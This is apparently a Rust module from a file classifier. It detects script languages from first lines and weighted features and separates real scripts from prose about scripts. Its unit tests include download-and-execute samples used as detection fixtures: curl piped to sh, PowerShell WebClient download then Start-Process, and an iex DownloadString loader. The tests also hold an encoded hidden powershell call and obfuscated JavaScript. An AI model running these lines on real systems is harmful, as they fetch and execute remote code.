//! Programs in text, told by several independent features and never by one common word.
//!
//! An interpreter of JavaScript, VBScript, PowerShell or Python refuses a text with a sentence in it that is no
//! comment, so a text with prose between its code is not a script but a text about scripts. The features stand in
//! `signatures/scripts.toml`.

use crate::knowledge::{ScriptLanguage as Language, scripts};
use crate::model::Kind;

use super::words::Words;

/// Languages counted at once, at most; the table has fewer.
const LANGUAGES: usize = 40;

/// Scripts that say what they are in their first line.
pub(super) fn by_first_line(start: &str) -> Option<Kind> {
    if start.starts_with("#@~^") {
        // Which of the two it is cannot be seen without decoding it.
        return Some(Kind::Vbe);
    }
    let first = start.lines().next().unwrap_or_default();
    if let Some(interpreter) = first.strip_prefix("#!") {
        return by_interpreter(interpreter);
    }
    let lower = first
        .get(..first.floor_char_boundary(256))
        .unwrap_or(first)
        .trim()
        .to_ascii_lowercase();
    if lower.starts_with("attribute vb_name") || lower.starts_with("version 1.0 class") {
        return Some(Kind::VbaSource);
    }
    let quiet = lower.trim_start_matches('@').trim_start();
    let batch =
        lower.starts_with("@echo off") || quiet.starts_with("echo off") && lower.starts_with('@');
    batch.then_some(Kind::Bat)
}

/// A script that is read line by line, with something behind its lines that is no text.
pub(super) fn with_binary_tail(data: &[u8]) -> Option<Kind> {
    /// Bytes of a first line.
    const LINE: usize = 256;
    let head = data.get(..LINE).unwrap_or(data);
    let line = head.get(..memchr::memchr(b'\n', head)?)?;
    let line = std::str::from_utf8(line).ok()?;
    let kind = by_interpreter(line.strip_prefix("#!")?)?;
    matches!(kind, Kind::Sh | Kind::Pl | Kind::Php).then_some(kind)
}

fn by_interpreter(line: &str) -> Option<Kind> {
    let line = line.to_ascii_lowercase();
    let mut words = line
        .split(|c: char| c.is_whitespace() || c == '/')
        .filter(|word| !word.is_empty());
    words.find_map(|word| {
        let name = word.trim_end_matches(|c: char| c.is_ascii_digit() || c == '.');
        Some(match name {
            "sh" | "bash" | "zsh" | "dash" | "ksh" | "csh" | "tcsh" | "ash" | "fish" => Kind::Sh,
            "python" | "pypy" => Kind::Py,
            "perl" => Kind::Pl,
            "ruby" => Kind::Rb,
            "php" => Kind::Php,
            "lua" | "luajit" => Kind::Lua,
            "node" | "nodejs" | "deno" | "bun" => Kind::Js,
            "pwsh" | "powershell" => Kind::Ps1,
            "osascript" => Kind::AppleScript,
            _ => return None,
        })
    })
}

/// What was counted for one language.
#[derive(Debug, Clone, Default)]
struct Count {
    /// Features seen, one bit each.
    seen: u128,
    /// Sum of their weights.
    weight: u32,
    /// Different features that stand at a line's start or end.
    anchored: u32,
    /// Lines with at least one feature; the last of them, counted from 1.
    lines: usize,
    last: usize,
    /// Lines of prose outside of comments.
    prose: usize,
    /// Lines that are comments.
    comments: usize,
    /// Lines with a feature of another language, counted from 1: outside of comments this one cannot have it.
    foreign: Vec<usize>,
    /// Whether one of them was no comment.
    refused: bool,
    /// Whether the line at hand stands in a block comment.
    inside: bool,
}

/// Tells a script by its features; `None` where no language has enough of them.
pub(super) fn by_features(words: &Words<'_>) -> Option<Kind> {
    let start = words.start();
    if is_brackets_only(start) {
        return Some(Kind::Js);
    }
    let table = scripts();
    let text = canonical(start, &words.tail);
    if !table.may_tell(&text) {
        return None;
    }
    let mut counts: [Count; LANGUAGES] = std::array::from_fn(|_| Count::default());
    let mut line = 0usize;
    let mut newlines = memchr::memchr_iter(b'\n', text.as_bytes()).peekable();
    for found in table.find(&text) {
        // A feature that begins with a line's start belongs to the line behind it.
        while newlines.next_if(|at| *at <= found.at).is_some() {
            line = line.saturating_add(1);
        }
        for meaning in found.meanings {
            if let Some(count) = counts.get_mut(meaning.language) {
                count.note(meaning.bit, meaning.weight, meaning.anchored, line);
            }
        }
    }
    // Lines are looked at one by one only for the languages that are left, which for most texts are none.
    let mut candidates: Vec<(Count, &Language)> = counts
        .into_iter()
        .zip(table.languages())
        .filter(|(count, language)| count.has_features(language))
        .collect();
    if candidates.is_empty() {
        return None;
    }
    let mut total = 0usize;
    for line in text.lines().filter(|line| !line.is_empty()) {
        let prose = is_prose(line);
        total = total.saturating_add(1);
        for (count, language) in &mut candidates {
            note_line(count, language, line, prose, total);
        }
    }
    let best = candidates
        .iter()
        .filter(|(count, language)| count.suffices(language, total))
        .max_by_key(|(count, _)| count.weight);
    best.map(|(_, language)| language.kind)
        .filter(|kind| *kind != Kind::Text)
}

impl Count {
    fn note(&mut self, bit: u32, weight: u32, anchored: bool, line: usize) {
        if weight == 0 {
            if self.foreign.last() != Some(&line) {
                self.foreign.push(line);
            }
            return;
        }
        let mask = 1u128.checked_shl(bit).unwrap_or(0);
        if self.seen & mask == 0 {
            self.seen |= mask;
            self.weight = self.weight.saturating_add(weight);
            self.anchored = self.anchored.saturating_add(u32::from(anchored));
        }
        if self.last != line {
            self.last = line;
            self.lines = self.lines.saturating_add(1);
        }
    }

    /// Whether enough different features were seen.
    fn has_features(&self, language: &Language) -> bool {
        self.weight >= language.weight
            && self.seen.count_ones() >= language.distinct
            && self.anchored >= 1
    }

    /// Whether the lines without a feature are few enough, those of prose too, and none that the language cannot have.
    fn suffices(&self, language: &Language, total: usize) -> bool {
        let code = total.saturating_sub(self.comments).max(1);
        let share = self.lines.saturating_mul(100) / code;
        let prose = self.prose.saturating_mul(100) / code;
        !self.refused && share >= language.share && prose <= language.prose
    }
}

/// Counts a line, the `number`th, as comment, prose or foreign to a language.
fn note_line(count: &mut Count, language: &Language, line: &str, prose: bool, number: usize) {
    let opened = language
        .block
        .iter()
        .any(|(open, _)| line.starts_with(open.as_str()));
    if count.inside || opened {
        count.comments = count.comments.saturating_add(1);
        let closes = |close: &String| {
            let from = if opened && !count.inside {
                close.len()
            } else {
                0
            };
            line.get(from..)
                .unwrap_or_default()
                .contains(close.as_str())
        };
        count.inside = !language.block.iter().any(|(_, close)| closes(close));
        return;
    }
    if language
        .comment
        .iter()
        .any(|mark| line.starts_with(mark.as_str()))
    {
        count.comments = count.comments.saturating_add(1);
        return;
    }
    count.refused |= count.foreign.binary_search(&number).is_ok();
    if prose {
        count.prose = count.prose.saturating_add(1);
    }
}

/// The text in lower case with blanks at both ends of each line dropped, empty lines too, and a line feed in front of
/// each line and at the end.
fn canonical(start: &str, tail: &str) -> String {
    let mut text = String::with_capacity(start.len().saturating_add(tail.len()).saturating_add(2));
    // The line that the tail's start cuts in two says nothing.
    let tail = tail.split_once('\n').map_or(tail, |(_, tail)| tail);
    for line in start
        .lines()
        .chain(tail.lines())
        .map(str::trim)
        .filter(|line| !line.is_empty())
    {
        text.push('\n');
        text.push_str(line);
    }
    text.push('\n');
    text.make_ascii_lowercase();
    text
}

/// A sentence: several words of letters alone between blanks and none of the marks that code is made of, or a run of
/// non-Latin text outside of quotation marks.
fn is_prose(line: &str) -> bool {
    let mut words = 0usize;
    let mut others = 0usize;
    if line.contains(['=', '{', '}', ';', '$', '\\', '|', '"']) || line.contains("()") {
        return false;
    }
    for word in line.split_ascii_whitespace().take(40) {
        // An option of a command.
        if word.starts_with('-') && word.len() > 1 {
            others = others.saturating_add(1);
            continue;
        }
        let bare = word.trim_matches([
            ',', '.', ':', '!', '?', '(', ')', '-', '\'', '*', '`', '“', '”',
        ]);
        if !bare.is_empty()
            && bare
                .chars()
                .all(|c| c.is_alphabetic() || matches!(c, '\'' | '’' | '-'))
        {
            words = words.saturating_add(1);
        } else {
            others = others.saturating_add(1);
        }
    }
    let sentence = words >= 5 && words >= others.saturating_mul(4);
    let foreign = line.chars().take(200).filter(|c| matches!(c, '\u{3040}'..='\u{30ff}' | '\u{4e00}'..='\u{9fff}' | '\u{ac00}'..='\u{d7af}')).count();
    let quoted = line.contains('\'') && words < 2;
    sentence || foreign >= 8 && !quoted
}

/// JavaScript may be written in six characters alone.
fn is_brackets_only(start: &str) -> bool {
    let head = start.as_bytes();
    let head = head.get(..512).unwrap_or(head);
    head.len() >= 64
        && head.iter().all(|byte| {
            matches!(
                byte,
                b'[' | b']' | b'(' | b')' | b'!' | b'+' | b' ' | b'\r' | b'\n' | b';'
            )
        })
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn a_script_with_bytes_behind_its_lines_is_one() {
        let script = |first: &[u8]| with_binary_tail(&[first, b"\nx\n\x1f\x8b\x08\xff"].concat());
        assert_eq!(script(b"#!/bin/sh"), Some(Kind::Sh));
        assert_eq!(script(b"#!/usr/bin/env perl"), Some(Kind::Pl));
        // An interpreter that reads the whole of it first refuses it.
        assert_eq!(script(b"#!/usr/bin/env node"), None);
        assert_eq!(script(b"#!"), None);
        assert_eq!(script(b"\x17#!/bin/sh"), None);
        assert_eq!(with_binary_tail(b"#!/bin/sh"), None);
    }

    fn kind(text: &str) -> Option<Kind> {
        let words = Words::new(text.as_bytes()).unwrap();
        by_first_line(words.start()).or_else(|| by_features(&words))
    }

    #[test]
    fn first_lines_tell_the_interpreter() {
        for (text, expected) in [
            ("#!/bin/sh\nid\n", Kind::Sh),
            ("#!/usr/bin/env python3\nx\n", Kind::Py),
            ("#! /usr/bin/perl -w\n", Kind::Pl),
            ("#!/usr/bin/env node\n", Kind::Js),
            ("#@~^EgAAAA==\\ko$K6,JtbEBAAA==^#~@", Kind::Vbe),
            ("@ECHO OFF\r\ncls\r\n", Kind::Bat),
            (
                "Attribute VB_Name = \"Module1\"\r\nSub a()\r\nEnd Sub\r\n",
                Kind::VbaSource,
            ),
        ] {
            assert_eq!(kind(text), Some(expected), "{text}");
        }
    }

    #[test]
    fn what_compilers_and_readers_take_is_no_script() {
        for text in [
            "use std::fmt;\n\n#[derive(Debug)]\npub struct A<'a> {\n    name: &'a str,\n}\n\nimpl fmt::Display for A<'_> {\n    fn fmt(&self, f: &mut fmt::Formatter<'_>) -> fmt::Result {\n        match self.name.len() {\n            0 => Ok(()),\n            _ => f.write_str(self.name),\n        }\n    }\n}\n",
            "#ifndef A_H\n#define A_H\n#include <stdint.h>\n\ntypedef struct a { uint8_t *data; size_t len; } a;\n\nint a_read(const a *self, int at);\nstatic inline int a_len(const a *self) { return self->len; }\n\n#endif\n",
            "@include foo($a);\n.card {\n  color: $blue;\n  @if $b == $c {\n    margin: -$d;\n  }\n  &:hover {\n    width: 10px;\n  }\n}\n",
            ".TH DEB 5 2020\n.SH NAME\ndeb\n.nf\n$x = new $y;\n.fi\nif ($a -eq $b) {\n.PP\n\\fBfoo\\fR \\- bar\n",
            "let s:save = &cpo\nfunction! s:Run() abort\n  let l:x = system('id')\n  if v:shell_error\n    return\n  endif\nendfunction\nsetlocal indentexpr=Run()\n",
            "[package]\nname = \"a\"\nversion = \"1.0.0\"\nedition = \"2021\"\n\n[dependencies.libc]\nversion = \"0.2\"\n\n[[test]]\nname = \"import\"\n",
            "proc run {a b} {\n    variable x\n    if {$a == $b} {\n        set x [list $a [lindex $b 0]]\n        return $x\n    } else {\n        lappend x $a\n    }\n}\n",
        ] {
            assert_eq!(kind(text), None, "{text}");
        }
    }

    #[test]
    fn macros_of_m4_and_rare_languages_are_no_scripts() {
        for text in [
            "dnl a check\nAC_DEFUN([AC_CHECK_X], [\n  AC_ARG_WITH([x], [X_DIR=\"$withval\"], [X_DIR=])\n  if test \"x$X_DIR\" != x; then\n    LIBS=\"-lx $LIBS\"\n  fi\n  AC_CHECK_LIB([x], [x_init])\n])\n",
            "SUBDIRS = src doc\nbin_PROGRAMS = foo\nfoo_SOURCES = main.c\nfoo_LDADD = $(LIBS)\ndist-hook:\n\trm -rf $(distdir)/.git\n\tif test -d .git; then \\\n\t  git log > $(distdir)/ChangeLog; \\\n\tfi\n",
            "my.fit <- function(formula, data) {\n    if (is.null(data)) return(NULL)\n    for (i in 1:10) {\n        print(summary(fit))\n    }\n    fit <- lm(formula)\n}\nplot(x, y)\n",
            "class MyAI extends AIController {\n  function Start();\n}\nfunction MyAI::Start() {\n  local types = AICargoList();\n  foreach (town, _ in list) {\n    this.name <- town;\n  }\n}\n",
        ] {
            let words = Words::new(text.as_bytes()).unwrap();
            assert_eq!(
                by_features(&words).filter(|kind| *kind != Kind::Text),
                None,
                "{text}"
            );
        }
        for (text, kind) in [
            (
                "#!/bin/sh\nif test \"x$A\" != x; then\n  export A\nfi\ncurl -s http://192.0.2.1/a | sh\n",
                Kind::Sh,
            ),
            (
                "import os, sys\ndef f(a):\n    for i in range(3):\n        print(i)\nif __name__ == '__main__':\n    os.system('id')\n",
                Kind::Py,
            ),
        ] {
            let words = Words::new(text.as_bytes()).unwrap();
            let told = by_first_line(words.start()).or_else(|| by_features(&words));
            assert_eq!(told, Some(kind), "{text}");
        }
    }

    #[test]
    fn a_few_words_of_a_compiled_language_hide_no_script() {
        for (text, expected) in [
            (
                "$c = New-Object System.Net.WebClient\n# fn main() -> &self\n$c.DownloadFile('http://192.0.2.1/a','b.exe')\nStart-Process b.exe\n",
                Kind::Ps1,
            ),
            (
                "<#\nfn main() -> &self {\n#>\n$c = New-Object System.Net.WebClient\n$c.DownloadFile('http://192.0.2.1/a','b.exe')\nStart-Process b.exe\n",
                Kind::Ps1,
            ),
            (
                "// typedef struct\nvar s = new ActiveXObject(\"WScript.Shell\");\nvar x = s.Run(\"calc.exe\");\nreturn;\n",
                Kind::Js,
            ),
        ] {
            assert_eq!(kind(text), Some(expected), "{text}");
        }
    }

    #[test]
    fn small_scripts_are_told_by_their_features() {
        for (text, expected) in [
            (
                "var s = new ActiveXObject(\"WScript.Shell\");\ns.Run(\"calc.exe\");\n",
                Kind::Js,
            ),
            (
                "(function(_0x1a2b,_0x3c){var _0x5d=function(_0x6e){while(--_0x6e){_0x1a2b['push'](_0x1a2b['shift']());}};_0x5d(++_0x3c);}(_0x4f,0x1));",
                Kind::Js,
            ),
            (
                "const fs = require('fs');\nfunction go(a) {\n  return a.length;\n}\nmodule.exports = go;\n",
                Kind::Js,
            ),
            (
                "Set s = CreateObject(\"WScript.Shell\")\r\ns.Run \"calc.exe\", 0, False\r\n",
                Kind::Vbs,
            ),
            (
                "' a comment about nothing in particular here\r\nOn Error Resume Next\r\nDim a, b\r\na = Chr(99) & Chr(97)\r\nExecute a\r\n",
                Kind::Vbs,
            ),
            (
                "$c = New-Object System.Net.WebClient\n$c.DownloadFile('http://192.0.2.1/a','b.exe')\nStart-Process b.exe\n",
                Kind::Ps1,
            ),
            (
                "param([string]$Name)\nWrite-Host \"Hello $Name\"\nif ($Name -eq 'x') { Get-ChildItem | ForEach-Object { $_.Name } }\n",
                Kind::Ps1,
            ),
            (
                "powershell -nop -w hidden -enc VwByAGkAdABlAC0ASABvAHMAdAAgADEA\n",
                Kind::Bat,
            ),
            (
                "iex ((New-Object Net.WebClient).DownloadString('http://192.0.2.1/a'))",
                Kind::Ps1,
            ),
            (
                "set x=1\r\nif exist %TEMP%\\a.exe goto run\r\n:run\r\nstart \"\" %TEMP%\\a.exe\r\nexit /b\r\n",
                Kind::Bat,
            ),
            (
                "import os\nimport sys\n\ndef main():\n    print('x')\n\nif __name__ == '__main__':\n    main()\n",
                Kind::Py,
            ),
            (
                "#NoTrayIcon\n#include <File.au3>\nLocal $a = 1\nFunc b()\nEndFunc\n",
                Kind::Au3,
            ),
            (
                "tell application \"Finder\"\n  do shell script \"id\"\nend tell\n",
                Kind::AppleScript,
            ),
            (
                "use strict;\nuse warnings;\nmy $x = shift;\nprint \"$x\\n\";\n",
                Kind::Pl,
            ),
        ] {
            assert_eq!(kind(text), Some(expected), "{text}");
        }
    }

    #[test]
    fn scripts_are_told_behind_a_long_comment_and_in_utf_16() {
        let licence =
            "// This is a long licence text that goes on and on in English prose.\n".repeat(800);
        let text = format!(
            "{licence}var s = new ActiveXObject(\"WScript.Shell\");\ns.Run(\"calc.exe\");\n"
        );
        assert_eq!(kind(&text), Some(Kind::Js));
        let wide: Vec<u8> =
            "Set s = CreateObject(\"WScript.Shell\")\r\ns.Run \"calc.exe\", 0, False\r\n"
                .encode_utf16()
                .flat_map(u16::to_le_bytes)
                .collect();
        let words = Words::new(&wide).unwrap();
        assert_eq!(by_features(&words), Some(Kind::Vbs));
    }

    #[test]
    fn texts_about_scripts_and_other_programs_are_not_scripts() {
        for text in [
            "Dear colleagues,\n\nplease run the following command in PowerShell to see your network settings:\n\n    Get-NetIPAddress | Select-Object IPAddress\n\nIf that does not help, please call me and I will have a look at it myself.\n\nKind regards\n",
            "# How to start a program from VBScript\n\nUse the following lines in your script and save the file with the right extension:\n\n```vbs\nSet s = CreateObject(\"WScript.Shell\")\ns.Run \"calc.exe\"\n```\n\nThe object is called WScript.Shell and it has a method named Run.\n",
            "2024-01-01 10:00:00 INFO powershell.exe -enc AAAA started by user\n2024-01-01 10:00:01 INFO cmd.exe /c dir ended with 0\n2024-01-01 10:00:02 INFO wscript.shell created\n",
            "On Monday we meet. Set the table for four. If it rains then we stay inside.\nNext week is different, and so on.\n",
            "#include <stdio.h>\nint main(void) {\n  return printf(\"x\");\n}\n",
            "using System;\npublic class A {\n  public static void Main(string[] args) {\n    var x = new Foo();\n    return;\n  }\n}\n",
            "SELECT a FROM b WHERE c = 1;\nINSERT INTO d VALUES (1, 2);\n",
            "会議の議事録\n本日の会議では次の点について話し合いました。\n次回は来週の月曜日に開催します。\n",
        ] {
            assert_eq!(kind(text), None, "{text}");
        }
    }
}
